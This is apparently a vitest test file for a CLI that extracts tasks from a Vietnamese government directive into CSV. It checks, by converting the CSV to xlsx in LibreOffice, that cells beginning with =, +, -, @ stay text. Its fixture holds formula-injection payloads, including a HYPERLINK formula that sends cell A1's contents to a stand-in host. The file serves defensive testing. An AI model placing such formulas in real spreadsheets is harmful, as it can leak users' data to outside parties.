/**
 * Spreadsheet safety in a real spreadsheet (issue 14): the CSV `extract`
 * writes for tasks whose words begin with `=`, `+`, `-`, `@` is opened by
 * LibreOffice (headless, scripts/setup-office.sh installs it), converted to
 * .xlsx and read back: every such cell is a string, none a formula.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { readZip } from '../src/ingest/zip.ts';
import { tempDir } from './fixtures/make.ts';
import { chidao } from './helpers.ts';

const SOFFICE = ['/usr/bin/soffice', '/usr/bin/libreoffice'].find(existsSync);

const OPENINGS = ['=HYPERLINK("http://x.example/?q="&A1,"bấm")', '+1+2', '-2+3', '@SUM(A1:A9)'];
const NOTICE = `THỦ TƯỚNG CHÍNH PHỦ
Số: 12/CT-TTg
Hà Nội, ngày 5 tháng 3 năm 2026
CHỈ THỊ
Về việc rà soát thủ tục hành chính
Thủ tướng Chính phủ yêu cầu:
${OPENINGS.map((opening, i) => `${i + 1}. ${opening} Bộ Tài chính chủ trì rà soát thủ tục số ${i + 1}.`).join('\n')}
THỦ TƯỚNG
Phạm Minh Chính
`;

/** The text of each cell of the first sheet, and whether it holds a formula. */
function cells(xlsx: Buffer): { text: string; formula: boolean }[] {
  const zip = readZip(xlsx)!;
  const read = (name: string) => zip.get(name)!.read(1 << 24).toString('utf8');
  const unescape = (s: string) => s.replace(/&quot;/g, '"').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&apos;/g, "'").replace(/&amp;/g, '&');
  const shared = [...read('xl/sharedStrings.xml').matchAll(/<si>([^]*?)<\/si>/g)].map((m) => unescape([...m[1].matchAll(/<t[^>]*>([^<]*)<\/t>/g)].map((t) => t[1]).join('')));
  return [...read('xl/worksheets/sheet1.xml').matchAll(/<c ([^>]*?)(?:\/>|>([^]*?)<\/c>)/g)].map(([, attributes, body = '']) => {
    const value = /<v>([^<]*)<\/v>/.exec(body)?.[1] ?? '';
    return { text: /t="s"/.test(attributes) ? shared[Number(value)] : unescape(value), formula: /<f[ >]/.test(body) };
  });
}

describe.skipIf(!SOFFICE)('CSV in LibreOffice', () => {
  it('shows task texts that begin with =, +, -, @ as text, never as formulas', async () => {
    const dir = tempDir();
    writeFileSync(join(dir, 'notice.txt'), NOTICE);
    const csv = join(dir, 'tasks.csv');
    expect((await chidao('extract', join(dir, 'notice.txt'), '--no-repair', '--format', 'csv', '-o', csv)).code).toBe(0);
    // 44 comma, 34 double quote, 76 UTF-8; a profile of its own so a running LibreOffice is not disturbed.
    execFileSync(SOFFICE!, [`-env:UserInstallation=file://${dir}/profile`, '--headless', '--infilter=CSV:44,34,76,1', '--convert-to', 'xlsx', '--outdir', dir, csv], { stdio: 'ignore', timeout: 120_000 });
    const sheet = cells(readFileSync(join(dir, 'tasks.xlsx')));
    expect(sheet.filter((c) => c.formula)).toEqual([]);
    for (const opening of OPENINGS) {
      expect(sheet.some((c) => c.text.replace(/^'/, '').startsWith(opening))).toBe(true);
    }
  }, 180_000);
});
